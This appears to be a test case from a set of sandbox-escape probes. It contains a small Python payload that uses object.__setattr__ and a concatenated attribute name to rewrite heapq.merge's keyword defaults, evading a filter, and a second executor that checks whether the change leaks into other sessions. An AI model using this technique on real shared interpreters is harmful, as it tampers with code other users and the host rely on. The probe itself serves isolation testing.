# aim: change the defaults of a library function with the primitive of object
# mechanism: object.__setattr__ and a computed name
# language: builtins
# reason: library functions are shared by every session and by the host
# jail: process
# plain: loot

import heapq

object.__setattr__(heapq.merge, "__kwdefau" + "lts__", {"key": None, "reverse": True})
# --- second executor
import heapq

if list(heapq.merge([1, 3], [2])) != [1, 2, 3]:
    loot("mutated: heapq.merge")
